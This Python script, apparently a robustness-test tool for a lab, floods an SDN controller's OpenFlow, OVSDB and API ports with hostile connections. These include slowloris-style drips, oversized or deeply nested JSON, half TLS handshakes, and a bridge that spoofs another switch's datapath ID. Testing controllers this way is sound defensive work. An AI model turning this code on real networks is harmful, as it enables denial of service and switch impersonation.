"""A program that attacks a controller: `attack.py HOST CONNECTIONS DATAPATH-ID`, until it is ended.

It keeps so many connections to all three ports, each hostile in its own way, and opens each again a
second after it was closed. Prints one line once all were tried. Knows nothing of the lab.
"""

import errno
import itertools
import os
import selectors
import socket
import struct
import sys
import time

PAUSE = 1.0  # seconds from the end of a connection to the next, and from one slow byte to the next
OPENFLOW, OVSDB, API = 6653, 6640, 9696

HELLO = struct.pack("!BBHI", 5, 0, 8, 1)
GIANT = struct.pack("!BBHI", 5, 19, 65535, 2)
HALF_TLS = bytes.fromhex("16030102000100") + b"\x01"
REQUEST = b"POST /v2.0/networks HTTP/1.1\r\nHost: k\r\nContent-Type: application/json\r\n"

# What each sends at once, and what it goes on sending byte by byte.
WAYS = {
    "silence on OpenFlow": (OPENFLOW, b"", b""),
    "garbage on OpenFlow": (OPENFLOW, os.urandom(4096), b""),
    "half a hello": (OPENFLOW, HELLO[:5], b""),
    "half a TLS handshake on OpenFlow": (OPENFLOW, HALF_TLS, b""),
    "a slow hello": (OPENFLOW, b"", HELLO),
    "a giant OpenFlow message": (OPENFLOW, HELLO + GIANT, b""),
    "another's datapath id": (OPENFLOW, HELLO, b""),
    "silence on OVSDB": (OVSDB, b"", b""),
    "garbage on OVSDB": (OVSDB, os.urandom(4096), b""),
    "half a TLS handshake on OVSDB": (OVSDB, HALF_TLS, b""),
    "slow JSON": (OVSDB, b"{", b'"method":"echo","params":['),
    "giant JSON": (OVSDB, b'{"result":["' + b"x" * (1 << 20), b""),
    "deep JSON": (OVSDB, b'{"result":' + b"[" * 100_000, b""),
    "silence on the API": (API, b"", b""),
    "garbage on the API": (API, os.urandom(4096), b""),
    "half a TLS handshake on the API": (API, HALF_TLS, b""),
    "slow headers": (API, b"GET / HTTP/1.1\r\n", b"X-Slow: " + b"x" * 10_000),
    "a giant body": (API, REQUEST + b"Content-Length: 99999999999\r\n\r\n{", b" " * 10_000),
    "half a body": (API, REQUEST + b"Content-Length: 1000\r\n\r\n{", b""),
}


class Attacker:
    """One connection at a time."""

    def __init__(self, host, name, datapath):
        self.address = (host, WAYS[name][0])
        self._name, self._datapath = name, datapath
        self.socket, self.due, self.attempts = None, 0.0, 0

    def open(self, selector):
        self.attempts += 1
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self._greeting, self._slow = WAYS[self._name][1:]
        self._received = bytearray()
        if self.socket.connect_ex(self.address) not in (0, errno.EINPROGRESS):
            return self.close(selector)
        return selector.register(self.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, self)

    def close(self, selector):
        if self.socket.fileno() in selector.get_map():
            selector.unregister(self.socket)
        self.socket.close()
        self.socket, self.due = None, time.monotonic() + PAUSE

    def work(self, selector, events):
        try:
            if events & selectors.EVENT_READ:
                chunk = self.socket.recv(65536)
                if not chunk:
                    self.close(selector)
                    return
                if self._name == "another's datapath id":
                    self._received += chunk
                    self._answer()
            if events & selectors.EVENT_WRITE and self._greeting:
                self._greeting = self._greeting[self.socket.send(self._greeting):]
            if not self._greeting:
                selector.modify(self.socket, selectors.EVENT_READ, self)
                self.due = time.monotonic() + PAUSE if self._slow else float("inf")
        except BlockingIOError:
            pass
        except OSError:
            self.close(selector)

    def drip(self, selector):
        try:
            self.socket.send(self._slow[:1])
            self._slow = self._slow[1:]
            self.due = time.monotonic() + PAUSE if self._slow else float("inf")
        except OSError:
            self.close(selector)

    def _answer(self):
        """Plays a bridge that calls itself as another does, to the end of the handshake."""
        while len(self._received) >= 8:
            _, kind, length, xid = struct.unpack_from("!BBHI", self._received)
            if len(self._received) < length:
                return
            body = bytes(self._received[8:length])
            del self._received[:length]
            if kind == 5:
                self._say(6, xid, struct.pack("!QIBB2xII", self._datapath, 0, 254, 0, 0, 0))
            elif kind == 18:
                what, = struct.unpack_from("!H", body)
                self._say(19, xid, struct.pack("!HH4x", what, 0) + bytes(1056 if what == 0 else 0))

    def _say(self, kind, xid, body):
        self._greeting += struct.pack("!BBHI", 5, kind, 8 + len(body), xid) + body
        self._greeting = self._greeting[self.socket.send(self._greeting):]


def main():
    host, count, datapath = sys.argv[1], int(sys.argv[2]), int(sys.argv[3], 16)
    names = itertools.islice(itertools.cycle(WAYS), count)
    attackers = [Attacker(host, name, datapath) for name in names]
    told = False
    with selectors.DefaultSelector() as selector:
        while True:
            now = time.monotonic()
            for attacker in attackers:
                if attacker.due <= now:
                    if attacker.socket is None:
                        attacker.open(selector)
                    else:
                        attacker.drip(selector)
            for key, events in selector.select(0.05):
                key.data.work(selector, events)
            if not told and all(attacker.attempts for attacker in attackers):
                told = True
                print(f"{count} hostile connections", flush=True)


if __name__ == "__main__":
    main()
